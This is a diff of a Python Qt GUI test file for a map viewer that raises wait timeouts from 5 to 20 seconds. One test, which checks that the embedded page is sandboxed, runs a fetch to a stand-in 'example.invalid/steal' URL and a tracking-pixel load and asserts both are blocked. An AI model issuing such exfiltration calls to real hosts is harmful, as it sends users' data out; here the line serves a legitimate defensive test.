@@ -63,7 +63,7 @@ def open_popup(qtbot: Any, page: Any, index: int) -> dict[str, Any]:
         f"document.querySelectorAll('.leaflet-popup').forEach(p => p.remove()); "
         f"GeoTweets.openPointAt({index})"
     )
-    qtbot.waitUntil(lambda: page.eval("!!document.querySelector('.gt-popup')"), timeout=5_000)
+    qtbot.waitUntil(lambda: page.eval("!!document.querySelector('.gt-popup')"), timeout=20_000)
     return json.loads(
         page.eval("""JSON.stringify((() => {
         const p = document.querySelector('.gt-popup');
@@ -111,7 +111,7 @@ def test_clicking_a_marker_opens_its_popup(qtbot: Any, window: Any, page: Any) -
     x, y = json.loads(page.eval("JSON.stringify(GeoTweets.pointPixel(0))"))
     target = window.map_view.focusProxy() or window.map_view
     QTest.mouseClick(target, Qt.MouseButton.LeftButton, pos=QPoint(round(x), round(y)))
-    qtbot.waitUntil(lambda: page.eval("!!document.querySelector('.gt-popup')"), timeout=5_000)
+    qtbot.waitUntil(lambda: page.eval("!!document.querySelector('.gt-popup')"), timeout=20_000)
     text = page.eval("document.querySelector('.gt-popup .gt-text').textContent")
     assert text == post.text
     assert "Synthetic" in page.eval("document.querySelector('.gt-popup').textContent")
@@ -145,7 +145,7 @@ def test_the_page_cannot_reach_the_network_or_navigate(qtbot: Any, window: Any, 
         "fetch('https://example.invalid/steal?x=1').catch(() => {}); "
         "new Image().src = 'http://example.invalid/pixel.png'; true"
     )
-    qtbot.waitUntil(lambda: len(window.map_view.guard.blocked) >= 2, timeout=5_000)
+    qtbot.waitUntil(lambda: len(window.map_view.guard.blocked) >= 2, timeout=20_000)
     assert any("example.invalid/steal" in url for url in window.map_view.guard.blocked)
     page.eval("window.location.href = 'https://example.invalid/'; true")
     qtbot.wait(500)
